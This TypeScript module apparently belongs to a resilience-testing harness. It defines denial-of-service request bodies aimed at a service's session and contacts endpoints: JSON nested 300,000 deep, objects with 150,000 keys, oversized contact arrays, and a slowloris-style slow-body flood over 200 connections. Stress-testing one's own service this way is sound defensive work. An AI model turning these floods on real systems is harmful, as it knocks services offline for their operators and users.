// Bodies that cost much to read, with a key and without.
import { type Attack, drip, flood, requestOf, type Target } from "./attack.ts";

const MB = 1_024 * 1_024;
const DEPTH = 300_000;
const NAMES = 150_000;
/** A body that is read: many entries of one contact. */
const ENTRIES = 20_000;

const nested = `${'{"a":'.repeat(DEPTH)}1${"}".repeat(DEPTH)}`;
const names = `{${Array.from({ length: NAMES }, (_, n) => `"name${n}":0`).join()}}`;
const entries = JSON.stringify({
  contact: {
    phone: "+15550009999",
    enhanced_data: { Orders: Array.from({ length: ENTRIES }, (_, n) => ({ text: String(n) })) },
  },
});

const keyed = ({ account }: Target) => ({ authorization: account.apiKey });

/** With the account's key. */
function withKey(name: string, body: string, connections: number): Attack {
  return {
    name,
    play(target, signal) {
      const url = `${target.url}/api/contacts/contact`;
      return flood({ url, request: requestOf(url, { headers: keyed(target), body }), connections }, signal);
    },
  };
}

export const bodyAttacks: Attack[] = [
  {
    name: "nested without a key",
    play({ url }, signal) {
      const session = `${url}/api/session`;
      return flood({ url, request: requestOf(session, { body: nested }), connections: 30 }, signal);
    },
  },
  withKey("nested", nested, 8),
  withKey("names", names, 8),
  withKey("entries", entries, 8),
  {
    name: "slow bodies",
    play(target, signal) {
      const url = `${target.url}/api/contacts/contact`;
      const beginning = { headers: keyed(target), body: " ".repeat(1.9 * MB), length: 2 * MB };
      return drip({ url, request: requestOf(url, beginning), connections: 200 }, signal);
    },
  },
];
